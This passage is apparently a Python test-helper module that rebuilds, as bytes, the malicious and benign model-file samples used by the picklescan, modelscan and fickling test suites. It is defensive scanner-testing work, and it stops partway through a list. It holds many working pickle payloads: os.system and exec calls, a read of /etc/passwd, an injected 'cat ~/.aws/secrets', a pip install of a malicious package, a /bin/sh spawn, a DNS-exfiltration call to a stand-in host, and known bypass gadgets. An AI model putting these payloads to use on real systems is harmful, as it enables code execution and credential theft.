"""The peers' own test samples, rebuilt in code: picklescan 1.0.5, modelscan 0.8.8, fickling
0.1.12.

Each peer's suite builds its samples in its tests (picklescan ``tests/init_data_files.py`` and
``tests/test_scanner.py``; modelscan ``tests/test_modelscan.py`` and ``tests/test_utils.py``;
fickling ``test/test_bypasses.py``, ``test_attack_vectors.py``, ``test_cve_patterns.py``,
``test_pytorch.py``). This module rebuilds every sample those files write or check, with the
same technique and the same globals: reduce payloads are assembled here (the callable named
exactly as the peer's sample names it, arguments pickled by ``pickle`` itself), real PyTorch
checkpoints come from torch, and fickling's own injector builds its injected checkpoints.
``PeerSample.note`` says where a sample differs from the peer's, and why.

Nothing hostile is committed and nothing here is ever loaded: samples are bytes.

Example::

    for s in build_peer_samples():
        (tmp / s.suite / s.filename).write_bytes(s.data)
"""

# ruff: noqa: E501 - sample tables read best one sample per line, as the peers' suites list them

from __future__ import annotations

import functools
import io
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.helpers.archives import zip_bytes

__all__ = ["PeerSample", "build_peer_samples", "reduce_pickle"]

PICKLESCAN = "picklescan 1.0.5"
MODELSCAN = "modelscan 0.8.8"
FICKLING = "fickling 0.1.12"
_PAYLOAD = "__import__('os').system('whoami')"


@dataclass(frozen=True)
class PeerSample:
    """One sample of a peer's suite: where it comes from, its bytes, and what the suite says
    it is (``hostile``: the suite expects a detection; otherwise a clean file)."""

    suite: str
    name: str
    filename: str
    data: bytes
    hostile: bool
    note: str = ""


# --- pickle assembly ----------------------------------------------------------------------------


def _body(obj: Any, protocol: int) -> bytes:
    """``pickle.dumps(obj)`` without its header, frame and STOP: opcodes that push ``obj``."""
    data = pickle.dumps(obj, protocol=protocol)
    if protocol >= 2:
        data = data[2:]
    if data[:1] == b"\x95":
        data = data[9:]
    assert data.endswith(b".")
    return data[:-1]


def _global(module: str, qualname: str, protocol: int) -> bytes:
    """The opcodes ``pickle`` writes to push ``module.qualname`` at ``protocol``."""
    if protocol >= 4:
        m, q = module.encode(), qualname.encode()
        return b"\x8c" + bytes([len(m)]) + m + b"\x8c" + bytes([len(q)]) + q + b"\x93"
    if "." in qualname:  # protocols 2-3 reach a nested name through getattr
        parent, attr = qualname.rsplit(".", 1)
        getattr_mod = "__builtin__" if protocol < 3 else "builtins"
        return (
            _global(getattr_mod, "getattr", protocol)
            + _global(module, parent, protocol)
            + _body(attr, protocol)
            + b"\x86R"
        )
    if protocol < 3 and module == "builtins":
        module = "__builtin__"  # pickle's fix_imports for Python 2 readers
    return b"c" + module.encode() + b"\n" + qualname.encode() + b"\n"


def reduce_pickle(
    module: str, qualname: str, args: tuple[Any, ...] = (), protocol: int = 4
) -> bytes:
    """What ``pickle.dumps`` writes for an object whose ``__reduce__`` returns
    ``(module.qualname, args)``."""
    head = bytes([0x80, protocol]) if protocol >= 2 else b""
    if protocol < 2 and "." in qualname:
        # protocols 0/1 have no TUPLE2: getattr's arguments go in a MARK'd tuple
        parent, attr = qualname.rsplit(".", 1)
        call = (
            _global("__builtin__", "getattr", protocol)
            + b"("
            + _global(module, parent, protocol)
            + _body(attr, protocol)
            + b"tR"
        )
    else:
        call = _global(module, qualname, protocol)
    return head + call + _body(args, protocol) + b"R."


def _set_flags(archive: bytes, flag: int) -> bytes:
    """Set a general-purpose flag bit in every local and central header."""
    data = bytearray(archive)
    for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (i := data.find(sig, start)) != -1:
            (flags,) = struct.unpack_from("<H", data, i + off)
            struct.pack_into("<H", data, i + off, flags | flag)
            start = i + 4
    return bytes(data)


def _torch(obj: Any, *, zip_format: bool = True) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=zip_format)
    return buf.getvalue()


def _small_model() -> Any:
    import torch

    return torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))


# --- picklescan 1.0.5 -------------------------------------------------------------------------------

# (file, module, qualname, args, protocol): reduce payloads of init_data_files.py / test_scanner.py
_PICKLESCAN_REDUCE: tuple[tuple[str, str, str, tuple[Any, ...], int], ...] = (
    *((f"malicious1_v{v}.pkl", "builtins", "eval", ("print('456')",), v) for v in (0, 3, 4)),
    *((f"malicious2_v{v}.pkl", "posix", "system", ("ls -la",), v) for v in (0, 3, 4)),
    ("malicious3.pkl", "httplib", "HTTPSConnection", ("github.com",), 0),
    ("malicious4.pickle", "requests.api", "get", ("https://github.com",), 4),
    ("malicious5.pickle", "aiohttp.client", "ClientSession", (), 4),
    ("malicious7.pkl", "socket", "create_connection", (("github.com", 80),), 4),
    ("malicious8.pkl", "subprocess", "run", (["ls", "-l"],), 4),
    ("malicious9.pkl", "sys", "exit", (0,), 4),
    ("malicious13a.pkl", "cPickle", "loads", (b"I12345\n.",), 0),
    ("malicious13b.pkl", "_pickle", "loads", (b"I12345\n.",), 4),
    ("malicious14.pkl", "runpy", "_run_code", ("print('456')",), 4),
    ("malicious16.pkl", "pip", "main", (["install", "some_malicious_package", "--no-input"],), 0),
    (
        "malicious17.pkl",
        "torch._inductor.codecache",
        "compile_file",
        ("", "", ["sh", "-c", "$(echo pwned)"]),
        4,
    ),  # fmt: skip
    ("malicious18.pkl", "pydoc", "pipepager", ("", 'echo "pwned"'), 4),
    ("malicious20.pkl", "venv", "create", ("venv", False, False, True, False, "$(echo pwned)"), 4),
    ("malicious21.pkl", "timeit", "timeit", ("", "import os; os.system('curl x')"), 4),
    ("malicious22.pkl", "numpy.testing._private.utils", "runstring", ("import os", {}), 4),
    (
        "GHSA-4r9r-ch6f-vxmx.pkl",
        "torch.utils.bottleneck.__main__",
        "run_cprofile",
        (_PAYLOAD, {}),
        4,
    ),  # fmt: skip
    ("GHSA-86cj-95qr-2p4f.pkl", "torch._dynamo.guards", "GuardBuilder.get", ({}, _PAYLOAD), 4),
    (
        "GHSA-f4x7-rfwp-v3xw.pkl",
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ({}, _PAYLOAD, []),
        4,
    ),  # fmt: skip
    ("GHSA-f745-w6jp-hpxx.pkl", "torch.utils.collect_env", "run", (_PAYLOAD,), 4),
    (
        "GHSA-h3qp-7fh3-f8h4.pkl",
        "torch.utils.data.datapipes.utils.decoder",
        "basichandlers",
        ("pickle", b""),
        4,
    ),  # fmt: skip
    (
        "GHSA-vr7h-p6mm-wpmh.pkl",
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        (_PAYLOAD, {}, {}),
        4,
    ),  # fmt: skip
    (
        "GHSA-vv6j-3g6g-2pvj.pkl",
        "torch.utils._config_module",
        "ConfigModule.load_config",
        ({}, b""),
        4,
    ),  # fmt: skip
    ("GHSA-5qwp-399c-mjwf.pkl", "trace", "Trace.run", ({}, _PAYLOAD), 4),
    ("GHSA-g344-hcph-8vgg.pkl", "trace", "Trace.runctx", ({}, _PAYLOAD, {}, {}), 4),
    ("GHSA-x696-vm39-cp64.pkl", "profile", "Profile.run", ({}, _PAYLOAD), 4),
    ("GHSA-6vqj-c2q5-j97w.pkl", "profile", "Profile.runctx", ({}, _PAYLOAD, {}, {}), 4),
    ("GHSA-f54q-57x4-jg88.pkl", "lib2to3.pgen2.grammar", "Grammar.loads", ({}, b""), 4),
    ("GHSA-3vg9-h568-4w9m.pkl", "idlelib.debugobj", "ObjectTreeItem.SetText", ({}, _PAYLOAD), 4),
    (
        "GHSA-6w4w-5w54-rjvr.pkl",
        "idlelib.autocomplete",
        "AutoComplete.get_entity",
        ({}, _PAYLOAD),
        4,
    ),  # fmt: skip
    (
        "GHSA-7cq8-mj8x-j263.pkl",
        "idlelib.autocomplete",
        "AutoComplete.fetch_completions",
        ({}, _PAYLOAD, 1),
        4,
    ),  # fmt: skip
    ("GHSA-cj3c-v495-4xqh.pkl", "code", "InteractiveInterpreter.runcode", ({}, _PAYLOAD), 4),
    ("GHSA-8r4j-24qv-fmq9.pkl", "idlelib.calltip", "Calltip.fetch_tip", ({}, _PAYLOAD), 4),
    ("GHSA-9xph-j2h6-g47v.pkl", "idlelib.calltip", "get_entity", (_PAYLOAD,), 4),
    (
        "GHSA-4whj-rm5r-c2v8.pkl",
        "torch.utils.bottleneck.__main__",
        "run_autograd_prof",
        (_PAYLOAD, {}),
        4,
    ),  # fmt: skip
    ("GHSA-xp4f-hrf8-rxw7.pkl", "ensurepip", "_run_pip", (_PAYLOAD,), 4),
    (
        "GHSA-p9w7-82w4-7q8m.pkl",
        "lib2to3.pgen2.pgen",
        "ParserGenerator.make_label",
        (None, {}, '""+' + _PAYLOAD),
        4,
    ),  # fmt: skip
    ("GHSA-m869-42cg-3xwr.pkl", "idlelib.run", "Executive.runcode", ({}, _PAYLOAD), 4),
    (
        "GHSA-j343-8v2j-ff7w.pkl",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcommand",
        ({}, _PAYLOAD),
        4,
    ),  # fmt: skip
    (
        "GHSA-3gf5-cxq9-w223.pkl",
        "idlelib.pyshell",
        "ModifiedInterpreter.runcode",
        ({}, _PAYLOAD),
        4,
    ),  # fmt: skip
    ("GHSA-fqq6-7vqf-w3fg.pkl", "doctest", "debug_script", (_PAYLOAD, True), 4),
    ("GHSA-9w88-8rmg-7g2p.pkl", "cProfile", "runctx", (_PAYLOAD, None, None), 4),
    ("GHSA-49gj-c84q-6qm9.pkl", "cProfile", "run", (_PAYLOAD,), 4),
    ("GHSA-7wx9-6375-f5wh.pkl", "profile", "run", (_PAYLOAD,), 4),
    (
        "GHSA-q77w-mwjj-7mqx.pkl",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, "whoami", True, None, None, None, 0),
        4,
    ),  # fmt: skip
    (
        "GHSA-jgw4-cr84-mqxg.bin",
        "asyncio.unix_events",
        "_UnixSubprocessTransport._start",
        ({}, "whoami", True, None, None, None, 0),
        4,
    ),  # fmt: skip
    (
        "GHSA-m273-6v24-x4m4.pkl",
        "distutils.file_util",
        "write_file",
        ("pwned_config.env", ["x"]),
        4,
    ),  # fmt: skip
    ("GHSA-4675-36f9-wf6r.pkl", "ctypes", "CDLL", (None,), 4),
    ("GHSA-vqmv-47xg-9wpr.pkl", "pty", "spawn", (["/bin/sh", "-c", "id; exit"],), 4),
    ("GHSA-r8g5-cgf2-4m4m.pkl", "numpy.f2py.crackfortran", "getlincoef", (_PAYLOAD, []), 4),
    ("io_FileIO.pkl", "_io", "FileIO", ("/etc/hosts", "r"), 4),
    ("urllib_request_urlopen.pkl", "urllib.request", "urlopen", ("https://example.invalid",), 4),
    ("logging_FileHandler.pkl", "logging", "FileHandler", ("/tmp/x.log",), 4),
    ("GHSA-vvpj-8cmc-gx39.pkl", "pkgutil", "resolve_name", ("os:system",), 4),
    ("types_CodeType.pkl", "types", "CodeType", (0, 0), 4),
    ("GHSA-g38g-8gr9-h9xp-uuid.pkl", "uuid", "_get_command_stdout", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-osx-support.pkl", "_osx_support", "_read_output", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-aix-support.pkl", "_aix_support", "_read_cmd_output", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-imaplib.pkl", "imaplib", "IMAP4_stream", ("id",), 4),
    ("GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl", "_pyrepl.pager", "pipe_pager", ("", "id"), 4),
    (
        "GHSA-g38g-8gr9-h9xp-test.pkl",
        "test.support.script_helper",
        "assert_python_ok",
        ("-c", _PAYLOAD),
        4,
    ),  # fmt: skip
)


def _call_on(callable_pickle_body: bytes, args_body: bytes, protocol: int) -> bytes:
    """``callable(*args)`` where the callable is itself a pickled object (a method, a partial)."""
    return bytes([0x80, protocol]) + callable_pickle_body + args_body + b"R."


def _stack_global_via_memo() -> bytes:
    """picklescan malicious11: names put in the memo with protocol 0 opcodes, fetched for
    STACK_GLOBAL (the 'Safe Pickle' CTF)."""
    return (
        b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR."
    )


def _picklescan_special() -> list[PeerSample]:
    out = []
    suite = PICKLESCAN
    sour = (
        b'c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S\'fl=open("/etc/passwd");'
        b"picklesmashed=fl.read();'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102"
        b"\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n"
        b"(g103\n(g100\nS'picklesmashed'\nltRp104\n0g104\n."
    )
    out.append(PeerSample(suite, "malicious0 (Sour Pickles)", "malicious0.pkl", sour, True))
    out.append(PeerSample(suite, "malicious10 (INST exec)", "malicious10.pkl",
                          b"(S'raise RuntimeError(\"Injection running\")'\ni__builtin__\nexec\n.", True))  # fmt: skip
    out.append(PeerSample(suite, "malicious11 (memo STACK_GLOBAL)", "malicious11.pkl", _stack_global_via_memo(), True))  # fmt: skip
    out.append(PeerSample(suite, "malicious-invalid-bytes", "malicious-invalid-bytes.pkl", _stack_global_via_memo() + b"\n\n\t\t", True))  # fmt: skip
    out.append(PeerSample(suite, "malicious23 (STRING names)", "malicious23.pkl", b"S'os'\nS'system'\n\x93S'ls'\n\x85R.", True))  # fmt: skip
    out.append(PeerSample(suite, "malicious6 (second pickle)", "malicious6.pkl",
                          pickle.dumps(["a", "b", "c"]) + reduce_pickle("requests.api", "get", ("https://github.com",), 4), True))  # fmt: skip
    import bdb

    for file, proto in (("malicious15a.pkl", 2), ("malicious15b.pkl", 4)):
        method = _global("bdb", "Bdb.run", proto)
        args = _body((bdb.Bdb(), 'import os\nos.system("whoami")'), proto)
        out.append(PeerSample(suite, file.rsplit(".", 1)[0] + " (bdb.Bdb.run)", file, _call_on(method, args, proto), True))  # fmt: skip
    import torch

    partial = functools.partial(torch.load, "some_other_model.bin", pickle_file="config.json", weights_only=False)  # fmt: skip
    out.append(PeerSample(suite, "malicious19 (partial(torch.load))", "malicious19.pkl",
                          _call_on(_body(partial, 4), _body((), 4), 4), True))  # fmt: skip
    # GHSA-84r2-jw7c-4r5q: methodcaller("system", ...)(pydoc.locate("os"))
    mc = _global("operator", "methodcaller", 4) + _body(("system", "echo pwned"), 4) + b"R"
    loc = _global("pydoc", "locate", 4) + _body(("os",), 4) + b"R\x85"
    out.append(PeerSample(suite, "GHSA-84r2-jw7c-4r5q (pydoc.locate + methodcaller)", "GHSA-84r2-jw7c-4r5q.pkl", b"\x80\x04" + mc + loc + b"R.", True))  # fmt: skip
    for ghsa, op in (
        ("GHSA-955r-x9j8-7rhh", "methodcaller"),
        ("GHSA-46h3-79wf-xr6c", "attrgetter"),
    ):
        imp = _global("builtins", "__import__", 4) + _body(("os",), 4) + b"R\x85"
        getter = _global("_operator", op, 4) + _body(("system",), 4) + b"R"
        out.append(PeerSample(suite, f"{ghsa} (_operator.{op} + __import__)", f"{ghsa}.pkl", b"\x80\x04" + getter + imp + b"R.", True))  # fmt: skip
    out.append(PeerSample(suite, "keyerror-exploit", "keyerror-exploit.pkl",
                          b"\x80\x04cos\nsystem\nVecho pwned\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.", True))  # fmt: skip
    out.append(PeerSample(suite, "type-confusion-exploit", "type-confusion-exploit.pkl",
                          b"\x80\x04cos\nsystem\nVecho x\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.", True))  # fmt: skip
    out.append(PeerSample(suite, "broken_model (exec, then garbage)", "broken_model.pkl",
                          b"cbuiltins\nexec\n(X>\nf = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.", True))  # fmt: skip
    out.append(PeerSample(suite, "cloudpickle_codeinjection", "cloudpickle_codeinjection.pkl", _cloudpickle_like(), True,
                          "cloudpickle's _make_function/_builtin_type/subimport globals, assembled"))  # fmt: skip
    return out


def _cloudpickle_like() -> bytes:
    """The globals cloudpickle writes to rebuild a function from a code object, each called."""
    calls = [
        _global("cloudpickle.cloudpickle", "_builtin_type", 4) + _body(("CodeType",), 4) + b"R",
        _global("cloudpickle.cloudpickle", "subimport", 4) + _body(("os",), 4) + b"R",
        _global("cloudpickle.cloudpickle", "_make_empty_cell", 4) + b")R",
        _global("cloudpickle.cloudpickle", "_make_cell", 4) + _body((None,), 4) + b"R",
        _global("cloudpickle.cloudpickle", "_make_function", 4)
        + _body((None, {}, "f", None, None), 4)
        + b"R",  # fmt: skip
        _global("cloudpickle.cloudpickle", "_function_setstate", 4) + _body((None, {}), 4) + b"R",
    ]
    return b"\x80\x04(" + b"".join(calls) + b"t."


def _picklescan_archives() -> list[PeerSample]:
    suite = PICKLESCAN
    evil = reduce_pickle("builtins", "eval", ("print('456')",), 4)
    plain = zip_bytes({"data.pkl": evil})
    cd = bytearray(plain)
    first = cd.find(b"data.pkl")
    second = cd.find(b"data.pkl", first + 1)
    cd[second : second + 8] = b"datap.kl"  # the central directory's name, not the local one
    crc = plain.replace(b"print('456')", b"print('123')", 1)
    out = [
        PeerSample(suite, "malicious1.zip", "malicious1.zip", plain, True),
        PeerSample(
            suite,
            "malicious1_central_directory.zip",
            "malicious1_central_directory.zip",
            bytes(cd),
            True,
        ),  # fmt: skip
        PeerSample(suite, "malicious1_crc.zip", "malicious1_crc.zip", crc, True),
        PeerSample(
            suite,
            "malicious1_wrong_ext.zip",
            "malicious1_wrong_ext.zip",
            zip_bytes({"data.txt": evil}),
            True,
        ),  # fmt: skip
    ]
    for flag in (0x1, 0x20, 0x40):
        out.append(PeerSample(suite, f"malicious1_0x{flag:x}.zip", f"malicious1_0x{flag:x}.zip", _set_flags(plain, flag), True,  # fmt: skip
                              f"flag bit 0x{flag:x} set in every local and central header"))  # fmt: skip
    return out


def _picklescan_models() -> list[PeerSample]:
    import numpy as np
    import torch

    suite = PICKLESCAN
    state = {"weight": torch.zeros(2, 2)}

    def npy(arr: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, arr, allow_pickle=True)
        return buf.getvalue()

    def npz(compressed: bool, **arrays: Any) -> bytes:
        buf = io.BytesIO()
        (np.savez_compressed if compressed else np.savez)(buf, **arrays)
        return buf.getvalue()

    obj = np.empty((2, 2), dtype=object)
    obj[:] = [(1, 2), (3, 4)]
    dns = npy(np.array([0], dtype=object))
    header_end = dns.index(b"\n") + 1
    dns = dns[:header_end] + reduce_pickle("ssl", "get_server_certificate", (("x.dns-logger.invalid", 443),), 4)  # fmt: skip
    legacy_bypass = (
        reduce_pickle("__builtin__", "eval", ("0x1950A86A20F9469CFC6C",), 2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
        + reduce_pickle("posix", "system", ("ls",), 2)
    )
    return [
        *(
            PeerSample(
                suite,
                f"benign0_v{v}.pkl",
                f"benign0_v{v}.pkl",
                pickle.dumps(["a", "b", "c"], protocol=v),
                False,
            )
            for v in (0, 3, 4)
        ),  # fmt: skip
        PeerSample(
            suite,
            "pytorch_model.bin (legacy)",
            "pytorch_model.bin",
            _torch(state, zip_format=False),
            False,
        ),  # fmt: skip
        PeerSample(
            suite, "new_pytorch_model.bin (zip)", "new_pytorch_model.bin", _torch(state), False
        ),  # fmt: skip
        PeerSample(
            suite,
            "pytorch_magic_bypass.pt",
            "pytorch_magic_bypass.pt",
            legacy_bypass,
            True,
            "legacy stream whose magic number comes from eval, then os.system",
        ),  # fmt: skip
        PeerSample(suite, "bad_pytorch.pt (a PNG)", "bad_pytorch.pt", b"\211PNG\r\n\032\n", False),
        PeerSample(suite, "not_a_pickle.bin", "not_a_pickle.bin", b"cmod\n\xf8\n", False),
        PeerSample(suite, "object_array.npy", "object_array.npy", npy(obj), False),
        PeerSample(suite, "int_array.npy", "int_array.npy", npy(np.array([[1, 2], [3, 4]])), False),
        PeerSample(
            suite,
            "object_arrays.npz",
            "object_arrays.npz",
            npz(False, a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object)),
            False,
        ),  # fmt: skip
        PeerSample(
            suite,
            "int_arrays.npz",
            "int_arrays.npz",
            npz(False, a=np.array([0, 1, 2]), b=np.array([3, 4, 5])),
            False,
        ),  # fmt: skip
        PeerSample(
            suite,
            "object_arrays_compressed.npz",
            "object_arrays_compressed.npz",
            npz(True, a=np.array([0, 1, 2], dtype=object), b=np.array([3, 4, 5], dtype=object)),
            False,
        ),  # fmt: skip
        PeerSample(
            suite,
            "int_arrays_compressed.npz",
            "int_arrays_compressed.npz",
            npz(True, a=np.array([0, 1, 2]), b=np.array([3, 4, 5])),
            False,
        ),  # fmt: skip
        PeerSample(suite, "dns_exfiltration.npy", "dns_exfiltration.npy", dns, True),
    ]


def picklescan_samples() -> list[PeerSample]:
    """Every sample picklescan 1.0.5's test suite writes or checks (the 7z one aside)."""
    reduces = [
        PeerSample(
            PICKLESCAN, f.rsplit(".", 1)[0] + f" ({m}.{q})", f, reduce_pickle(m, q, a, p), True
        )
        for f, m, q, a, p in _PICKLESCAN_REDUCE
    ]
    return [*reduces, *_picklescan_special(), *_picklescan_archives(), *_picklescan_models()]


# --- modelscan 0.8.8 --------------------------------------------------------------------------------


def _inject_before(obj_pickle: bytes, payload_body: bytes) -> bytes:
    """modelscan's PickleInject: the payload saved before the real object, one STOP for both."""
    head = 2 if obj_pickle[:1] == b"\x80" else 0
    if obj_pickle[head : head + 1] == b"\x95":
        head += 9
    return obj_pickle[:head] + payload_body + obj_pickle[head:]


def _unsafe_torch_zip() -> bytes:
    import torch

    src = zipfile.ZipFile(io.BytesIO(_torch(torch.nn.Module().state_dict())))
    payload = _global("posix", "system", 2) + _body(("cat ~/.aws/secrets",), 2) + b"R"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("data.pkl"):
                data = _inject_before(data, payload)
            out.writestr(info, data)
    return buf.getvalue()


def _keras_lambda_config(keras3: bool) -> dict[str, Any]:
    import base64
    import marshal

    code = base64.b64encode(marshal.dumps(compile("exec('import http.client')", "<l>", "eval"))).decode()  # fmt: skip
    fn: Any = (
        {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
        if keras3
        else [code, None, None]
    )
    lam = {"class_name": "Lambda", "config": {"name": "lambda", "function": fn, "function_type": "lambda"}}  # fmt: skip
    dense = {"class_name": "Dense", "config": {"name": "dense", "units": 1}}
    if keras3:
        lam["module"] = dense["module"] = "keras.layers"
    return {"class_name": "Functional", "config": {"name": "model", "layers": [dense, lam, lam]}}


def _keras_h5(config: dict[str, Any]) -> bytes:
    import json

    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"] = "2.15.0"
    return buf.getvalue()


def _keras_v3(config: dict[str, Any]) -> bytes:
    import json

    return zip_bytes({"metadata.json": b'{"keras_version": "3.0.0"}', "config.json": json.dumps(config).encode(),
                 "model.weights.h5": _keras_h5({"class_name": "weights"})})  # fmt: skip


def _pb(no: int, data: bytes) -> bytes:
    out = bytearray([no << 3 | 2])
    n = len(data)
    while True:
        b, n = n & 0x7F, n >> 7
        out.append(b | (0x80 if n else 0))
        if not n:
            break
    return bytes(out) + data


def _keras_metadata(config: dict[str, Any]) -> bytes:
    import json

    layer_meta = json.dumps({"class_name": "Functional", "config": config["config"]}).encode()
    return _pb(1, _pb(5, layer_meta))


def _saved_model(ops: list[tuple[str, str]]) -> bytes:
    nodes = b"".join(_pb(1, _pb(1, n.encode()) + _pb(2, op.encode())) for n, op in ops)
    return b"\x08\x01" + _pb(2, _pb(1, _pb(4, b"serve")) + _pb(2, nodes))


def modelscan_samples() -> list[PeerSample]:
    """The samples modelscan 0.8.8's test_modelscan.py builds (TensorFlow/Keras ones without
    TensorFlow: the same configs and ops written directly)."""
    import numpy as np

    suite = MODELSCAN
    out: list[PeerSample] = []
    for v in (0, 3, 4):
        out.append(PeerSample(suite, f"benign0_v{v}.pkl", f"benign0_v{v}.pkl", pickle.dumps(["a", "b", "c"], protocol=v), False))  # fmt: skip
        out.append(PeerSample(suite, f"malicious1_v{v}.pkl", f"malicious1_v{v}.pkl", reduce_pickle("builtins", "eval", ("print('456')",), v), True))  # fmt: skip
        out.append(PeerSample(suite, f"malicious2_v{v}.pkl", f"malicious2_v{v}.pkl", reduce_pickle("posix", "system", ("ls -la",), v), True))  # fmt: skip
        note = "dill writes the same opcodes as pickle for these (dill not installed here)"
        out.append(PeerSample(suite, f"benign0_v{v}.dill", f"benign0_v{v}.dill", pickle.dumps(["a", "b", "c"], protocol=v), False, note))  # fmt: skip
        out.append(PeerSample(suite, f"malicious1_v{v}.dill", f"malicious1_v{v}.dill", reduce_pickle("builtins", "eval", ("print('456')",), v), True, note))  # fmt: skip
    shared = {s.filename: s for s in picklescan_samples()}
    for name in ("malicious0.pkl", "malicious3.pkl", "malicious4.pickle", "malicious5.pickle",
                 "malicious6.pkl", "malicious7.pkl", "malicious8.pkl", "malicious9.pkl",
                 "malicious10.pkl", "malicious11.pkl", "malicious15b.pkl", "malicious1.zip"):  # fmt: skip
        s = shared[name]
        out.append(PeerSample(suite, s.name, name.replace("15b", "15"), s.data, True))
    inner = reduce_pickle("posix", "system", ("echo pwned!!!",), 5)
    m12 = (
        b"\x80\x05cpickle\nloads\n" + b"B" + len(inner).to_bytes(4, "little") + inner + b"\x85R0N."
    )
    m13 = b'\x80\x05cbuiltins\neval.__call__\nV__import__("os").system("echo pwned!!!")\n\x85R.'
    out += [
        PeerSample(
            suite, "malicious12 (pickle.loads of nested bytes)", "malicious12.pkl", m12, True
        ),
        PeerSample(suite, "malicious13 (builtins.eval.__call__)", "malicious13.pkl", m13, True),
        PeerSample(
            suite,
            "malicious14 (memo STACK_GLOBAL + trailing)",
            "malicious14.pkl",
            _stack_global_via_memo() + b"\n\n\t\t",
            True,
        ),  # fmt: skip
        PeerSample(suite, "bad_pytorch.pt (a PNG)", "bad_pytorch.pt", b"\211PNG\r\n\032\n", False),
        PeerSample(
            suite,
            "safe_zip_pytorch.pt",
            "safe_zip_pytorch.pt",
            _torch(_small_model().state_dict()),
            False,
        ),  # fmt: skip
        PeerSample(
            suite,
            "safe_old_format_pytorch.pt",
            "safe_old_format_pytorch.pt",
            _torch(_small_model().state_dict(), zip_format=False),
            False,
        ),  # fmt: skip
        PeerSample(
            suite,
            "unsafe_zip_pytorch.pt (injected os.system)",
            "unsafe_zip_pytorch.pt",
            _unsafe_torch_zip(),
            True,
        ),  # fmt: skip
    ]
    safe = io.BytesIO()
    np.save(safe, np.array([[1, 2, 3], [4, 5, 6]]))
    arr_pickle = pickle.dumps(np.array([[1, 2, 3], [4, 5, 6]]), protocol=4)
    exec_body = _global("builtins", "exec", 4) + _body(('print("Malicious code!")',), 4) + b"R"
    note_tf = "written without TensorFlow: the same model config / graph ops as the peer's fixture"
    out += [
        PeerSample(suite, "safe_numpy.npy", "safe_numpy.npy", safe.getvalue(), False),
        PeerSample(
            suite,
            "unsafe_numpy.npy (exec injected before an array pickle)",
            "unsafe_numpy.npy",
            _inject_before(arr_pickle, exec_body),
            True,
        ),  # fmt: skip
        PeerSample(
            suite,
            "safe.h5",
            "safe.h5",
            _keras_h5({"class_name": "Functional", "config": {"layers": []}}),
            False,
            note_tf,
        ),  # fmt: skip
        PeerSample(
            suite,
            "unsafe.h5 (Lambda layers)",
            "unsafe.h5",
            _keras_h5(_keras_lambda_config(False)),
            True,
            note_tf,
        ),  # fmt: skip
        PeerSample(
            suite,
            "unsafe.keras (Lambda layers)",
            "unsafe.keras",
            _keras_v3(_keras_lambda_config(True)),
            True,
            note_tf,
        ),  # fmt: skip
        PeerSample(
            suite,
            "saved_model_unsafe/keras_metadata.pb (Lambda)",
            "keras_metadata.pb",
            _keras_metadata(_keras_lambda_config(False)),
            True,
            note_tf,
        ),  # fmt: skip
        PeerSample(
            suite,
            "saved_model_unsafe/saved_model.pb (ReadFile, WriteFile, MatchingFiles)",
            "saved_model.pb",
            _saved_model(
                [
                    ("x", "Placeholder"),
                    ("w", "WriteFile"),
                    ("l", "MatchingFiles"),
                    ("r", "ReadFile"),
                ]
            ),
            True,
            note_tf,
        ),  # fmt: skip
        PeerSample(
            suite,
            "saved_model_safe/saved_model.pb",
            "saved_model.pb",
            _saved_model([("x", "Placeholder"), ("y", "MatMul")]),
            False,
            note_tf,
        ),  # fmt: skip
    ]
    return out


# --- fickling 0.1.12 --------------------------------------------------------------------------------


def _stack_global_only(module: str, name: str) -> bytes:
    m, n = module.encode(), name.encode()
    return (
        b"\x80\x04\x8c" + bytes([len(m)]) + m + b"\x94\x8c" + bytes([len(n)]) + n + b"\x94\x93\x94."
    )


def _real_reduce(func: Callable[..., Any], args: tuple[Any, ...], protocol: int) -> bytes:
    """``pickle.dumps`` of an object reducing to ``func(*args)``, as fickling's tests write it."""

    class Payload:
        def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
            return func, args

    return pickle.dumps(Payload(), protocol=protocol)


def _attack_vectors() -> list[tuple[str, Callable[..., Any], tuple[Any, ...]]]:
    import code
    import cProfile
    import ctypes
    import importlib
    import marshal
    import multiprocessing.util
    import os
    import pty
    import pydoc
    import runpy
    import socket
    import subprocess
    import sys

    code_bytes = marshal.dumps(compile("import os", "<string>", "exec"))
    return [
        ("os.system", os.system, ("id",)),
        ("os.popen", os.popen, ("id",)),
        ("os.execv", os.execv, ("/bin/sh", ["/bin/sh", "-c", "id"])),
        ("subprocess.call", subprocess.call, (["id"],)),
        ("subprocess.Popen", subprocess.Popen, (["id"],)),
